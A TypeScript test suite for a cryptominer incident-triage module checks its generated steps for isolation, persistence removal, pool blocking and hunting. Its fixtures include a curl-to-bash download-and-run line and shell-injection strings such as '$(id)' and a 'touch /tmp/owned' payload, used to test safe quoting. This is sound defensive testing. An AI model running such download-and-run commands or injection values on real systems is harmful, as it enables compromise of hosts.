import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { test } from 'node:test';
import fc from 'fast-check';
import type { Coverage } from '#shared/model/coverage.ts';
import type { DecidedEvidence, Finding } from '#shared/model/finding.ts';
import { type Group, SEVERITIES } from '#shared/model/groups.ts';
import type { Sample } from '#shared/model/indicator.ts';
import { artifact, artifactValue } from '#shared/model/place.ts';
import { triage } from '#shared/report/triage.ts';
import { anyCoverage, anyFinding } from './any-finding.ts';
import {
  BY_SEVERITY,
  COVERAGE,
  CRON,
  DOWNLOAD,
  evidence,
  FLOWS_ONLY,
  finding,
  LOOKUP,
  MINER,
  PLACE,
  SESSION,
  sample,
  WALLET,
} from './findings.ts';

function actions(of: Finding, step: number, coverage: Coverage = COVERAGE): string {
  return triage(of, coverage)[step - 1]?.actions.join('\n') ?? '';
}

test('gives nine steps, each with something to do, for any finding', () => {
  fc.assert(
    fc.property(anyFinding, anyCoverage, (one, coverage) => {
      const steps = triage(one, coverage);
      assert.deepEqual(
        steps.map(({ step }) => step),
        [1, 2, 3, 4, 5, 6, 7, 8, 9],
      );
      assert.ok(steps.every(({ title, actions }) => title !== '' && actions.length > 0 && actions.length < 80));
    }),
    { numRuns: 200 },
  );
});

for (const severity of SEVERITIES) {
  test(`names in each step of a ${severity} finding an artifact or place of it`, () => {
    const { finding: one, coverage } = BY_SEVERITY[severity];
    const own = [
      one.place.host,
      ...one.artifacts.map((a) => artifactValue(a).replace(/:\d+$/, '')),
      ...one.evidence.flatMap((e) => e.samples.map((s) => s.path ?? s.id)),
    ];
    for (const { step, actions: list } of triage(one, coverage)) {
      assert.ok(
        own.some((name) => list.join('\n').includes(name)),
        `step ${step}: ${list.join('\n')}`,
      );
    }
  });
}

test('keeps evidence first, removes persistence before the kill, and stops the parent before the miner', () => {
  const [keep = '', order = '', parent = '', kill = ''] =
    triage(finding('High', [MINER, LOOKUP, CRON]), COVERAGE)[0]?.actions ?? [];
  assert.match(keep, /^Keep first/);
  assert.match(order, /step 4 before .*\/var\/spool\/cron\/root/);
  assert.match(parent, /parents first.*4100 bash/);
  assert.match(kill, /^Stop pid 4242 \/tmp\/\.x\/kworkerd \(parent 4100 bash, /);
});

test('does not tell to stop the supervisor that started a miner', () => {
  const [one = MINER.samples[0]] = MINER.samples;
  const under = { ...MINER, samples: [{ ...sample(0), ...one, parentPid: 1, parentName: 'systemd' }] };
  assert.doesNotMatch(actions(finding('Medium', [under, LOOKUP]), 1), /parents first/);
});

/** Step 1 of a finding whose miner's process and its neighbours are as given. */
function stops(one: Partial<Sample>, ...more: DecidedEvidence[]): string {
  const [miner = sample(0)] = MINER.samples;
  return actions(finding('High', [{ ...MINER, samples: [{ ...miner, ...one }] }, LOOKUP, ...more]), 1);
}

test('stops no program that only looked up, fetched or wrote', () => {
  const tool = (group: Group, rule: string, fields: Partial<Sample>): DecidedEvidence =>
    evidence(group, rule, 'T1496.001', sample(5, { pid: 1029, parentPid: 77, parentName: 'deploy.sh', ...fields }));
  const text = stops(
    {},
    tool('pool_connection', 'lookup_tool', { executable: '/opt/x/anything', commandLine: 'dig pool.example.com' }),
    tool('pool_connection', 'pool_lookup', { executable: '/usr/bin/dig' }),
    tool('miner_execution', 'miner_program', { executable: '/usr/sbin/modprobe', commandLine: 'modprobe msr' }),
    tool('miner_execution', 'miner_config_write', { executable: '/tmp/installer', path: '/tmp/config.json' }),
  );
  assert.match(text, /Stop pid 4242 \/tmp\/\.x\/kworkerd/);
  assert.doesNotMatch(text, /pid 1029|deploy\.sh|installer/);
});

test('stops what met the pool, and what is called like a tool where no tool is', () => {
  const met = (executable: string): DecidedEvidence =>
    evidence('pool_connection', 'pool_connection/x', 'T1071', sample(5, { pid: 1029, executable }));
  for (const path of ['/tmp/dig', '/opt/app/worker', '/usr/bin/python3']) {
    assert.match(stops({}, met(path)), new RegExp(`Stop pid 1029 ${path}`), path);
  }
});

test('looks for the container that a client started, since the client is no miner', () => {
  const started = evidence(
    'miner_execution',
    'miner_program',
    'T1496.001',
    sample(5, { pid: 1037, executable: '/usr/bin/docker', commandLine: 'docker run -d a/xmrig' }),
  );
  const text = stops({}, started);
  assert.match(text, /Find and stop the container that this started: `docker run -d a\/xmrig`\./);
  assert.doesNotMatch(text, /pid 1037/);
});

test('names with care a parent that is a shell, shared, or known by its number alone', () => {
  for (const parent of [
    { parentPid: 4100, parentName: 'bash' },
    { parentPid: 4100, parentName: '-bash' },
    { parentPid: 4300, parentName: 'php-fpm8.2' },
  ]) {
    assert.match(stops(parent), new RegExp(`Look at these parents first .*${parent.parentPid} ${parent.parentName}`));
    assert.doesNotMatch(stops(parent), /Stop the parents first/);
  }
  const own = { parentPid: 4101, parentName: 'kwatch' };
  assert.match(stops(own), /Stop the parents first, if they still run: 4101 kwatch\./);
  const tuned = evidence('system_optimization', 'msr_write', 'T1496.001', sample(9, { pid: 9, ...own }));
  assert.match(stops(own, tuned), /Look at these parents first .*4101 kwatch/);
  assert.doesNotMatch(stops({ parentPid: 1, parentName: 'x' }), /parents first/);
});

test('says of a unit only what records show: that it ran the miner, was set up to start it, or was set up', () => {
  const unit = (fields: Partial<DecidedEvidence>): string =>
    stops(
      {},
      evidence('persistence_setup', 'persistence_command', 'T1543.002', sample(5), {
        artifacts: ['unit:upd.service'],
        ...fields,
      }),
    );
  assert.match(
    unit({ decided: 'weak' }),
    /The unit upd\.service was set up too; no record shows what it starts\. .*: systemctl cat upd\.service/,
  );
  assert.match(unit({}), /no record shows what it starts/);
  const text = unit({ rule: 'persistence_file/unit', artifacts: ['unit:upd.service', 'cmd:/tmp/.x/a'] });
  assert.match(text, /The unit upd\.service was set up to start it: systemctl disable --now upd\.service/);
});

test('disables the unit that a miner ran in', () => {
  const one = finding('Medium', [{ ...MINER, linkKey: 'unit:kwork.service', artifacts: [] }, LOOKUP]);
  assert.match(actions(one, 1), /systemctl disable --now kwork\.service/);
});

test('says to copy a deleted binary before its process ends', () => {
  assert.match(actions(finding('Medium', [{ ...MINER, flags: ['deleted'] }, LOOKUP]), 1), /deleted.*\/proc\/4242\/exe/);
});

test('says what would tell where there is no process source', () => {
  const { finding: one } = BY_SEVERITY.Medium;
  assert.match(actions(one, 1, FLOWS_ONLY), /No process source here/);
  assert.match(actions(one, 4, FLOWS_ONLY), /No process source here/);
  assert.match(actions(one, 7, FLOWS_ONLY), /No process source here/);
  assert.match(actions(one, 9, FLOWS_ONLY), /no process .* no Resolver query logs/);
  assert.match(
    actions(finding('Low', [MINER, CRON], { artifacts: [] }), 2),
    /No pool was seen .*logs of i-0123456789abcdef0 would tell/,
  );
});

test('blocks names by DNS firewall and addresses with their port', () => {
  const text = actions(finding('Medium', [MINER, LOOKUP, SESSION]), 2);
  assert.match(text, /DNS Firewall: pool\.example\.com\./);
  assert.match(text, /--domains pool\.example\.com '\*\.pool\.example\.com'/);
  assert.match(text, /outbound: 198\.51\.100\.7:3333\./);
  assert.match(actions(finding('Medium', [MINER, LOOKUP]), 2), /answered with 198\.51\.100\.7/);
});

test('writes IPv6 endpoints in brackets', () => {
  const met = evidence('pool_connection', 'pool_connection', 'T1071', sample(1, { remote: '[2001:db8::7]:3333' }));
  const one = finding('Medium', [MINER, met], { artifacts: ['pool:[2001:db8::7]:3333'] });
  assert.match(actions(one, 2), /outbound: \[2001:db8::7\]:3333\./);
  assert.match(actions(one, 8), /dstAddr = "2001:db8::7" and dstPort = 3333/);
});

test('isolates by what the place is known as', () => {
  const at = (host: string, scope = 'host', samples: Parameters<typeof sample>[1] = {}): string =>
    actions(
      finding('Medium', [{ ...MINER, samples: [sample(0, samples)] }, LOOKUP], { place: { ...PLACE, host, scope } }),
      3,
    );
  assert.match(at('i-0123456789abcdef0'), /Auto Scaling group[\s\S]*modify-instance-attribute/);
  assert.match(at('eni-0123456789abcdef0'), /--network-interface-ids eni-0123456789abcdef0 --region eu-west-1/);
  assert.match(at('10.0.1.23'), /private-ip-address,Values=10\.0\.1\.23/);
  assert.match(at('web-1'), /Name tag or private DNS name/);
  assert.match(
    at('shop/cart', 'cart/app', { task: 'aa11' }),
    /tasks of shop\/cart \(aa11\)[\s\S]*list-tasks --cluster shop --family cart/,
  );
  assert.match(
    at('i-01', 'shop/cart/app', { pod: 'shop/cart-1' }),
    /^Scale the owner shop\/cart down[\s\S]*-n shop \| grep -F -- cart/,
  );
  assert.match(
    at('i-01', '3f4e5d6c7b8a', { container: '3f4e5d6c7b8a' }),
    /^Pause and disconnect the container 3f4e5d6c7b8a/,
  );
  assert.match(at('i-0123456789abcdef0'), /tracked connections open/);
});

test('names the exact entry, what it starts and how to undo it', () => {
  const text = actions(finding('High', [MINER, LOOKUP, CRON]), 4);
  assert.match(
    text,
    /Remove the added lines from the crontab of user root \(`crontab -l -u root`, \/var\/spool\/cron\/root\) \(T1053\.003 Cron, .*it starts: \/tmp\/\.x\/kworkerd -B\)/,
  );
  const key = evidence('persistence_setup', 'ssh_key', 'T1098.004', sample(3, { path: '/root/.ssh/authorized_keys' }));
  assert.match(
    actions(finding('High', [MINER, LOOKUP, key]), 4),
    /Remove the attacker's key from \/root\/\.ssh\/authorized_keys/,
  );
  assert.match(actions(finding('High', [MINER, LOOKUP, key]), 9), /SSH keys/);
});

test('names also the persistence that was left out', () => {
  const one = finding('Medium', [MINER, LOOKUP], { leftOut: [{ evidence: CRON, why: 'another session' }] });
  assert.match(actions(one, 4), /left out: the crontab of user root \(\/var\/spool\/cron\/root\)/);
});

test('gives one line to send to the pool', () => {
  const report = triage(finding('Medium', [DOWNLOAD, MINER, LOOKUP]), COVERAGE)[4]?.actions.find((one) =>
    one.startsWith('Report'),
  );
  assert.ok(report?.includes(WALLET));
  assert.match(
    report ?? '',
    /coin: XMR; worker: rig01; algorithm: rx\/0; pool: pool\.example\.com:3333; seen from 2026-03-01T10:00:05Z/,
  );
});

test('says where a wallet would be when none was seen', () => {
  const one = finding('Medium', [{ ...MINER, artifacts: ['path:/tmp/.x/kworkerd'] }, LOOKUP]);
  assert.match(actions(one, 5), /No wallet was seen: config\.json in \/tmp\/\.x\//);
});

test('reads hours and threads, and says how to price them', () => {
  const text = actions(finding('High', [MINER, LOOKUP, CRON]), 6);
  assert.match(text, /up to 2 hours/);
  assert.match(text, /Threads asked for: -t 4\./);
  assert.match(text, /describe-instances .* --instance-ids i-0123456789abcdef0/);
});

test('leads from context, ancestors and login to the way in', () => {
  const text = actions(finding('Medium', [DOWNLOAD, MINER, LOOKUP]), 7);
  assert.match(text, /piped_code: curl -s http:\/\/203\.0\.113\.9\/x\.sh/);
  assert.match(text, /bash < sshd/);
  assert.match(text, /login uid 1000, session 7, tty pts0/);
});

test('hunts for what the attacker chose, not for files of the system', () => {
  const text = actions(finding('High', [DOWNLOAD, MINER, LOOKUP, CRON]), 8);
  for (const own of [WALLET, 'http://203.0.113.9/x.sh', '/tmp/.x/kworkerd', 'pool.example.com'])
    assert.ok(text.includes(`"${own}"`));
  assert.ok(!text.includes('/var/spool/cron/root'));
});

test('quotes what stands in queries', () => {
  const one = finding('Medium', [{ ...MINER, artifacts: ['path:/tmp/a"b\\c'] }, LOOKUP]);
  assert.ok(actions(one, 8).includes('@message like "/tmp/a\\"b\\\\c"'));
});

test('asks for the parts of a path between its control characters, and for the form that auditd gives it', () => {
  const written = artifact('path', '/tmp/\u001b[31mx\nnl');
  const one = finding('Medium', [{ ...MINER, artifacts: [written] }, LOOKUP]);
  const text = actions(one, 8);
  const parts = '(@message like "/tmp/" and @message like "[31mx" and @message like "nl")';
  assert.ok(text.includes(`${parts} or @message like "2F746D702F1B5B33316D780A6E6C"`), text);
  assert.ok(text.includes('Strings of this attacker: /tmp/\\u{1b}[31mx\\u{a}nl.'), text);
  assert.ok(!actions(one, 8, FLOWS_ONLY).includes('2F746D70'));
});

test('puts no name with a written control character into a command', () => {
  const one = finding('Medium', [{ ...MINER, artifacts: [artifact('unit', 'a\u001bb.service')] }, LOOKUP]);
  assert.match(actions(one, 1), /The unit a\\u\{1b\}b\.service runs it$/m);
});

const EVIL = ["x'; touch /tmp/owned #", '$(id)', '`id`', '-rf', 'a b', 'a\nb', '"$HOME"', "a'b"];

test('lets a shell read what logs wrote as one word', () => {
  for (const text of EVIL) {
    const one = finding('Medium', [{ ...MINER, linkKey: `unit:${text}` }, LOOKUP], {
      place: { ...PLACE, region: text },
    });
    const line = actions(one, 1)
      .split('\n')
      .find((action) => action.includes('systemctl disable'));
    if (text.includes('\n')) {
      assert.equal(line, undefined);
      continue;
    }
    const shell = line?.slice(line.indexOf('systemctl disable --now ') + 24) ?? '';
    assert.equal(execFileSync('sh', ['-c', `printf %s ${shell}`], { encoding: 'utf8' }), text);
  }
});

test('names in step 2 what a strong miner reached, as no known pool, but no resolver', () => {
  const met = sample(0, { remote: '198.51.100.77:80', executable: '/tmp/m' });
  const asked = sample(1, { remote: '192.0.2.2:53', executable: '/tmp/m' });
  const miner = { ...evidence('miner_execution', 'miner_program', 'T1496.001', met), samples: [met, asked] };
  const step = triage(finding('Low', [miner]), COVERAGE)[1]?.actions.join('\n') ?? '';
  assert.match(step, /Reached by the miner, not known as a pool: 198\.51\.100\.77:80\. /);
  assert.match(step, /No pool was seen/);
  assert.doesNotMatch(step, /:53/);
});
